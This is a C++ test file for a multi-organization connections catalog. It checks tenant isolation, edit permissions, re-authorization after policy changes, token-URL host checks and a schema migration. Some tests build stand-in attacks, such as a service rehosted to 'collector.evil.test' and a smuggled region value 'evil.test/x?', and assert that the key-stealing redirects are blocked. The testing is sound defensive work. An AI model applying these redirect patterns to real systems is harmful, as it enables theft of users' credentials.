// Custom services per organization: isolation between two organizations, who may change a
// service, what a change of policy does to the connections using it, and the migration from
// installation-wide services.
#include "connections/catalog.h"

#include "connections/connections_impl.h"
#include "test_fixture.h"
#include "store/testing.h"

namespace relish::connections {
namespace {

constexpr std::string_view kWeather = R"(id: weather
name: Weather
auth: api_key
base_url: https://api.weather.test
allowed_hosts: [api.weather.test]
api_key: {in: header, fields: [{name: X-Key, label: Key}]}
)";

std::string Replace(std::string text, const std::string& from, const std::string& to) {
  text.replace(text.find(from), from.size(), to);
  return text;
}

// The same service pointed at another host: what an attacker would write.
std::string Rehosted(std::string_view yaml, const std::string& host) {
  std::string s(yaml);
  s = Replace(s, "base_url: https://api.weather.test", "base_url: https://" + host);
  return Replace(s, "allowed_hosts: [api.weather.test]", "allowed_hosts: [" + host + "]");
}

class OrgServicesTest : public ConnectionsTest {
 protected:
  CallContext In(const std::string& org) {
    return {.org_id = org, .environment = "sandbox", .origin = "test"};
  }
  // Requests sent so far that carry `secret` anywhere, by URL.
  std::vector<std::string> Carrying(const std::string& secret) {
    std::vector<std::string> out;
    for (const auto& r : http_.requests()) {
      bool found =
          r.url.find(secret) != std::string::npos || r.body.find(secret) != std::string::npos;
      for (const auto& [k, v] : r.headers) found |= v.find(secret) != std::string::npos;
      if (found) out.push_back(r.url);
    }
    return out;
  }
};

// The hole: any signed-in user could rewrite any custom service, and B's next call delivered
// B's API key to A's host. A's developer (even an administrator of A) now meets B's service as
// one that does not exist, and B's calls keep going to B's host.
TEST_F(OrgServicesTest, AnotherOrganizationsServiceDoesNotExist) {
  ASSERT_TRUE(catalog_->CreateCustom("orgB", kWeather, "usr_b").ok());
  ASSERT_TRUE(connections_
                  ->Create({.org_id = "orgB",
                            .display_name = "Weather",
                            .service_id = "weather",
                            .created_by = "usr_b"})
                  .ok());
  ASSERT_TRUE(
      connections_
          ->SetCredentials("orgB", "sandbox", "weather", "usr_b", {{"X-Key", "PLANTED-b-key-77"}})
          .ok());

  Editor a_admin{.user_id = "usr_a", .admin = true};
  const std::string evil = Rehosted(kWeather, "collector.evil.test");
  EXPECT_EQ(catalog_->Get("orgA", "weather").error().message(), "no service 'weather'");
  EXPECT_EQ(catalog_->Get("orgA", "weather").error().code(), ErrorCode::kNotFound);
  auto listed = *catalog_->List("orgA");
  for (const auto& s : listed) EXPECT_NE(s->id, "weather");
  EXPECT_EQ(catalog_->UpdateCustom(a_admin, "orgA", "weather", evil).error().message(),
            "no service 'weather'");
  EXPECT_EQ(catalog_->DeleteCustom(a_admin, "orgA", "weather").error().message(),
            "no service 'weather'");
  EXPECT_EQ(connections_
                ->Create({.org_id = "orgA",
                          .display_name = "Steal",
                          .service_id = "weather",
                          .created_by = "usr_a"})
                .error()
                .message(),
            "no service 'weather'");
  // Ids are per organization: A may have a "weather" of its own, which B never sees.
  ASSERT_TRUE(catalog_->CreateCustom("orgA", evil, "usr_a").ok());
  EXPECT_EQ((*catalog_->Get("orgB", "weather"))->base_url, "https://api.weather.test");

  auto r = connections_->Call(In("orgB"), "weather", {.url = "/forecast"});
  ASSERT_TRUE(r.ok()) << r.error().message();
  EXPECT_EQ(http_.requests().back().url, "https://api.weather.test/forecast");
  EXPECT_EQ(Carrying("PLANTED-b-key-77"),
            std::vector<std::string>{"https://api.weather.test/forecast"});
  EXPECT_EQ(connections_->Call(In("orgB"), "weather", {.url = "https://collector.evil.test/x"})
                .error()
                .message(),
            "connection 'weather' (service weather) may not send credentials to "
            "collector.evil.test; allowed: api.weather.test");
  EXPECT_EQ(catalog_->List("orgB")->back()->id, "weather");
  EXPECT_EQ(catalog_->List("orgB")->back()->org_id, "orgB");
}

TEST_F(OrgServicesTest, OnlyTheCreatorOrAnAdministratorChangesAService) {
  ASSERT_TRUE(catalog_->CreateCustom("org1", kWeather, "usr_creator").ok());
  std::string renamed = Replace(std::string(kWeather), "name: Weather", "name: Weather 2");
  Editor other_dev{.user_id = "usr_dev"};
  Editor creator{.user_id = "usr_creator"};
  Editor admin{.user_id = "usr_admin", .admin = true};
  auto denied = catalog_->UpdateCustom(other_dev, "org1", "weather", renamed);
  EXPECT_EQ(denied.error().code(), ErrorCode::kPermissionDenied);
  EXPECT_EQ(denied.error().message(),
            "only the service's creator or an administrator of the organization may change "
            "service 'weather'");
  EXPECT_EQ(catalog_->DeleteCustom(other_dev, "org1", "weather").error().message(),
            "only the service's creator or an administrator of the organization may delete "
            "service 'weather'");
  EXPECT_EQ((*catalog_->Get("org1", "weather"))->name, "Weather");  // unchanged
  ASSERT_TRUE(catalog_->UpdateCustom(creator, "org1", "weather", renamed).ok());
  EXPECT_EQ((*catalog_->Get("org1", "weather"))->name, "Weather 2");
  ASSERT_TRUE(catalog_->UpdateCustom(admin, "org1", "weather", kWeather).ok());
  EXPECT_EQ((*catalog_->Get("org1", "weather"))->name, "Weather");
  EXPECT_EQ((*catalog_->Get("org1", "weather"))->created_by, "usr_creator");  // stays the creator's
  EXPECT_EQ(catalog_->DeleteCustom(Editor{}, "org1", "weather").error().code(),
            ErrorCode::kPermissionDenied);
  ASSERT_TRUE(catalog_->DeleteCustom(admin, "org1", "weather").ok());
  EXPECT_EQ(catalog_->Get("org1", "weather").error().code(), ErrorCode::kNotFound);
}

TEST(PolicyChangesTest, NameTheSettingsThatDecideWhereCredentialsGo) {
  auto before = *ParseService(kWeather, "w");
  auto same = *ParseService(Replace(Replace(std::string(kWeather), "name: Weather", "name: W"),
                                    "label: Key", "label: The key"),
                            "w");
  EXPECT_EQ(PolicyChanges(before, same), std::vector<std::string>{});
  auto moved = *ParseService(Rehosted(kWeather, "api2.weather.test"), "w");
  EXPECT_EQ(PolicyChanges(before, moved), (std::vector<std::string>{"base_url", "allowed_hosts"}));
  auto placed = *ParseService(Replace(std::string(kWeather), "in: header", "in: query"), "w");
  EXPECT_EQ(PolicyChanges(before, placed), std::vector<std::string>{"api_key"});
  auto headed = *ParseService(std::string(kWeather) + "headers: {X-Extra: one}\n", "w");
  EXPECT_EQ(PolicyChanges(before, headed), std::vector<std::string>{"headers"});
  auto bearer = *ParseService(
      "id: weather\nname: Weather\nauth: bearer\nbase_url: https://api.weather.test\n"
      "allowed_hosts: [api.weather.test]\n",
      "w");
  EXPECT_EQ(PolicyChanges(before, bearer), (std::vector<std::string>{"auth", "inject", "api_key"}));
}

// Credentials were granted for the old policy: a change of hosts, URLs or injection under live
// connections marks them needs_reauth, with the reason, and audits each connection with who
// changed what. A change of anything else leaves them alone.
TEST_F(OrgServicesTest, APolicyChangeMarksLiveConnectionsAndIsAudited) {
  ASSERT_TRUE(catalog_->CreateCustom("org1", kWeather, "usr_creator").ok());
  ASSERT_TRUE(catalog_->CreateCustom("org2", kWeather, "usr_other").ok());
  for (const char* name : {"live", "pending"}) {
    ASSERT_TRUE(
        connections_->Create({.org_id = "org1", .display_name = name, .service_id = "weather"})
            .ok());
  }
  ASSERT_TRUE(connections_
                  ->Create({.org_id = "org1",
                            .environment = "production",
                            .display_name = "live",
                            .service_id = "weather"})
                  .ok());
  ASSERT_TRUE(
      connections_->Create({.org_id = "org2", .display_name = "live", .service_id = "weather"})
          .ok());
  for (auto [org, env] :
       {std::pair{"org1", "sandbox"}, {"org1", "production"}, {"org2", "sandbox"}}) {
    ASSERT_TRUE(
        connections_->SetCredentials(org, env, "live", "u", {{"X-Key", "PLANTED-key-1"}}).ok());
  }
  ASSERT_TRUE(connections_->Call(In("org1"), "live", {.url = "/a"}).ok());  // cached now
  clock_.Advance(Millis(1000));
  size_t sent = http_.requests().size();

  // Not a policy change: nothing happens to the connections.
  Editor admin{.user_id = "usr_admin", .admin = true};
  std::string renamed = Replace(std::string(kWeather), "name: Weather", "name: Forecasts");
  ASSERT_TRUE(catalog_->UpdateCustom(admin, "org1", "weather", renamed).ok());
  EXPECT_EQ(connections_->Get("org1", "sandbox", "live")->authorizations[0].status,
            Status::kConnected);
  EXPECT_EQ((*catalog_->Get("org1", "weather"))->policy_changed_at, 0);

  ASSERT_TRUE(
      catalog_->UpdateCustom(admin, "org1", "weather", Rehosted(kWeather, "api2.weather.test"))
          .ok());
  const std::string reason =
      "service weather changed base_url, allowed_hosts since this connection was authorized; "
      "authorize it again";
  for (const char* env : {"sandbox", "production"}) {
    auto c = *connections_->Get("org1", env, "live");
    ASSERT_EQ(c.authorizations.size(), 1u);
    EXPECT_EQ(c.authorizations[0].status, Status::kNeedsReauth) << env;
    EXPECT_EQ(c.authorizations[0].reason, reason);
  }
  EXPECT_TRUE(connections_->Get("org1", "sandbox", "pending")->authorizations.empty());
  // The other organization's "weather" is another service.
  EXPECT_EQ(connections_->Get("org2", "sandbox", "live")->authorizations[0].status,
            Status::kConnected);

  auto audit = *connections_->Audit("org1", "", 10);
  std::vector<std::string> entries;
  for (const auto& e : audit) {
    if (e.origin != "service") continue;
    entries.push_back(e.environment + " " + e.link_name + " " + e.user_id + ": " + e.note);
  }
  const std::string note =
      "service weather changed by usr_admin: base_url https://api.weather.test -> "
      "https://api2.weather.test; allowed_hosts [api.weather.test] -> [api2.weather.test]; the "
      "connection needs to be authorized again";
  EXPECT_EQ(entries, (std::vector<std::string>{"sandbox live usr_admin: " + note,
                                               "production live usr_admin: " + note}));
  EXPECT_TRUE(connections_->Audit("org2", "", 10)->empty());

  // The old key is not sent to the new host, by either path.
  EXPECT_EQ(connections_->Call(In("org1"), "live", {.url = "/a"}).error().message(),
            "connection 'live' needs to be authorized again: " + reason);
  auto prepared = connections_->Prepare(In("org1"), "live", {.url = "/a"});
  ASSERT_TRUE(prepared.ok());
  EXPECT_FALSE((*prepared)->ready);
  EXPECT_EQ(http_.requests().size(), sent);
  // Entering the key again (for the new host) connects it.
  ASSERT_TRUE(
      connections_->SetCredentials("org1", "sandbox", "live", "u", {{"X-Key", "PLANTED-key-2"}})
          .ok());
  ASSERT_TRUE(connections_->Call(In("org1"), "live", {.url = "/a"}).ok());
  EXPECT_EQ(http_.requests().back().url, "https://api2.weather.test/a");
  EXPECT_EQ(Carrying("PLANTED-key-1").size(), 1u);  // the call before the change, to the old host
}

// Copies of credentials from before a change (a refresh that was running wrote the row back
// as connected, or another process's cache) are refused too: they are checked against when the
// policy changed.
TEST_F(OrgServicesTest, CredentialsFromBeforeAChangeAreNotUsed) {
  ASSERT_TRUE(catalog_->CreateCustom("org1", kWeather, "usr_1").ok());
  ASSERT_TRUE(
      connections_->Create({.org_id = "org1", .display_name = "live", .service_id = "weather"})
          .ok());
  ASSERT_TRUE(
      connections_->SetCredentials("org1", "sandbox", "live", "", {{"X-Key", "PLANTED-key-3"}})
          .ok());
  clock_.Advance(Millis(5));
  ASSERT_TRUE(catalog_
                  ->UpdateCustom({.user_id = "usr_1"}, "org1", "weather",
                                 Rehosted(kWeather, "api2.weather.test"))
                  .ok());
  ASSERT_TRUE(
      store::Transact(*store_, store::TxMode::kWrite, [](store::Transaction& tx) -> Result<void> {
        TRY(tx.Exec("UPDATE connection_credentials SET status = 'connected', reason = ''"));
        return Ok();
      }).ok());
  clock_.Advance(Millis(2000));  // past the caches
  size_t sent = http_.requests().size();
  EXPECT_EQ(connections_->Call(In("org1"), "live", {.url = "/a"}).error().message(),
            "connection 'live' needs to be authorized again: service weather changed where its "
            "credentials go since this connection was authorized; authorize it again");
  EXPECT_EQ(http_.requests().size(), sent);
  EXPECT_EQ(connections_->Get("org1", "sandbox", "live")->authorizations[0].status,
            Status::kNeedsReauth);
}

// A client-credentials connection that needs re-authorization connects again (it used to be
// refused for good).
TEST_F(OrgServicesTest, ClientCredentialsConnectAgainAfterAPolicyChange) {
  const std::string machine = R"(id: robot
name: Robot
auth: oauth2_client_credentials
base_url: https://api.machine.test
allowed_hosts: [api.machine.test]
token_hosts: [login.machine.test]
oauth2: {token_url: 'https://login.machine.test/token', scopes: [jobs]}
)";
  ASSERT_TRUE(catalog_->CreateCustom("org1", machine, "usr_1").ok());
  ASSERT_TRUE(connections_->SetClient("org1", "robot", "client-1", "client-secret-1").ok());
  ASSERT_TRUE(
      connections_->Create({.org_id = "org1", .display_name = "robot", .service_id = "robot"})
          .ok());
  ASSERT_TRUE(connections_->Connect("org1", "sandbox", "robot", "").ok());
  clock_.Advance(Millis(5));
  ASSERT_TRUE(catalog_
                  ->UpdateCustom({.user_id = "usr_1"}, "org1", "robot",
                                 Replace(machine, "[api.machine.test]",
                                         "[api.machine.test, api2.machine.test]"))
                  .ok());
  EXPECT_EQ(connections_->Get("org1", "sandbox", "robot")->authorizations[0].status,
            Status::kNeedsReauth);
  auto again = connections_->Connect("org1", "sandbox", "robot", "");
  ASSERT_TRUE(again.ok()) << again.error().message();
  EXPECT_EQ(again->authorizations[0].status, Status::kConnected);
  EXPECT_TRUE(connections_->Call(In("org1"), "robot", {.url = "/jobs"}).ok());
}

// Token endpoints are checked after expansion, at each request: a parameter value that moves a
// token URL's host is refused before anything is sent.
TEST_F(OrgServicesTest, ATokenUrlExpandedToAnotherHostIsRefusedAtRequestTime) {
  const std::string regional = R"(id: regional
name: Regional
auth: oauth2_client_credentials
parameters:
  region:
    label: Region
    pattern: '^[a-z0-9./?]+$'
    default: eu
base_url: https://api.machine.test
allowed_hosts: [api.machine.test]
token_hosts: ['*.login.machine.test']
oauth2: {token_url: 'https://{region}.login.machine.test/token', scopes: [jobs]}
)";
  ASSERT_TRUE(catalog_->CreateCustom("org1", regional, "usr_1").ok());
  ASSERT_TRUE(
      connections_->SetClient("org1", "regional", "client-1", "PLANTED-client-secret").ok());
  ASSERT_TRUE(connections_
                  ->Create({.org_id = "org1",
                            .display_name = "regional",
                            .service_id = "regional",
                            .params = {{"region", "evil.test/x?"}}})
                  .ok());
  auto r = connections_->Connect("org1", "sandbox", "regional", "");
  EXPECT_EQ(r.error().message(),
            "connection 'regional' needs to be connected again: service regional's "
            "oauth2.token_url is at evil.test, not one of its token hosts (*.login.machine.test); "
            "nothing was sent");
  EXPECT_TRUE(Carrying("PLANTED-client-secret").empty());
  EXPECT_TRUE(http_.requests().empty());
}

// A database at catalog schema version 1 (installation-wide custom services): each row moves
// to the organizations whose connections use it (a copy each), else to its creator's first
// organization; a row with neither is kept where nobody sees it.
TEST(CatalogMigrationTest, RowsMoveToTheOrganizationsThatUseThem) {
  auto store = store::testing::OpenTestStore();
  std::vector<store::Migration> all = TestMigrations();
  std::vector<store::Migration> before;
  for (const auto& m : all) {
    if (m.module != "catalog" || m.version <= 1) before.push_back(m);
  }
  ASSERT_TRUE(store->Migrate(before).ok());
  std::string weather(kWeather);
  auto put =
      store::Transact(*store, store::TxMode::kWrite, [&](store::Transaction& tx) -> Result<void> {
        for (const char* org : {"orgA", "orgB", "orgC"}) {
          TRY(tx.Exec("INSERT INTO orgs (id, name, created_at) VALUES (?, ?, 1)", org, org));
        }
        for (const char* user : {"usr_1", "usr_2"}) {
          TRY(
              tx.Exec("INSERT INTO users (id, email, name, role, password_hash, created_at)"
                      " VALUES (?, ?, ?, 'developer', 'x', 1)",
                      user, std::string(user) + "@example.com", user));
        }
        TRY(tx.Exec("INSERT INTO org_members (org_id, user_id) VALUES ('orgA', 'usr_1')"));
        TRY(tx.Exec("INSERT INTO org_members (org_id, user_id) VALUES ('orgC', 'usr_2')"));
        TRY(tx.Exec("INSERT INTO org_members (org_id, user_id) VALUES ('orgB', 'usr_2')"));
        for (const char* id : {"shared", "lonely", "orphan", "borrowed"}) {
          std::string creator = std::string(id) == "orphan"   ? "usr_gone"
                                : std::string(id) == "shared" ? "usr_1"
                                                              : "usr_2";
          TRY(tx.Exec(
              "INSERT INTO custom_services (id, definition, created_by, created_at, updated_at)"
              " VALUES (?, ?, ?, 10, 20)",
              id, Replace(weather, "id: weather", std::string("id: ") + id), creator));
        }
        int n = 0;
        for (auto [org, service] : {std::pair{"orgA", "shared"},
                                    {"orgB", "shared"},
                                    {"orgB", "shared"},
                                    {"orgA", "borrowed"}}) {
          ++n;
          TRY(
              tx.Exec("INSERT INTO connections (id, org_id, environment, link_name, display_name,"
                      " service_id, scopes, params, per_user, created_by, created_at, updated_at)"
                      " VALUES (?, ?, 'sandbox', ?, 'x', ?, '[]', '{}', 0, 'usr_1', 1, 1)",
                      "con_" + std::to_string(n), org, "link" + std::to_string(n), service));
        }
        return Ok();
      });
  ASSERT_TRUE(put.ok()) << put.error().message();
  auto migrated = store->Migrate(all);
  ASSERT_TRUE(migrated.ok()) << migrated.error().message();
  auto rows = *store::Transact(*store, store::TxMode::kRead, [](store::Transaction& tx) {
    return tx.Query(
        "SELECT org_id, id, created_by, created_at, updated_at, policy_changed_at,"
        " definition FROM custom_services ORDER BY org_id, id");
  });
  std::vector<std::string> got;
  for (const auto& r : rows) {
    got.push_back(r.Text(0) + "/" + r.Text(1) + " by " + r.Text(2) + " " +
                  std::to_string(r.Int(3)) + " " + std::to_string(r.Int(4)) + " " +
                  std::to_string(r.Int(5)) +
                  (r.Text(6).starts_with("id: " + r.Text(1) + "\n") ? " definition kept"
                                                                    : " definition lost"));
  }
  EXPECT_EQ(
      got,
      (std::vector<std::string>{
          "/orphan by usr_gone 10 20 0 definition kept",
          "orgA/borrowed by usr_2 10 20 0 definition kept",  // used there, not where its creator is
          "orgA/shared by usr_1 10 20 0 definition kept",
          "orgB/lonely by usr_2 10 20 0 definition kept",  // the first of orgB, orgC
          "orgB/shared by usr_1 10 20 0 definition kept",
      }));
  FakeClock clock;
  Catalog catalog(*store, clock);
  EXPECT_TRUE(catalog.Get("orgA", "shared").ok());
  EXPECT_TRUE(catalog.Get("orgB", "shared").ok());
  EXPECT_EQ(catalog.Get("orgC", "lonely").error().message(), "no service 'lonely'");
  EXPECT_EQ(catalog.Get("", "orphan").error().message(), "no service 'orphan'");
}

}  // namespace
}  // namespace relish::connections
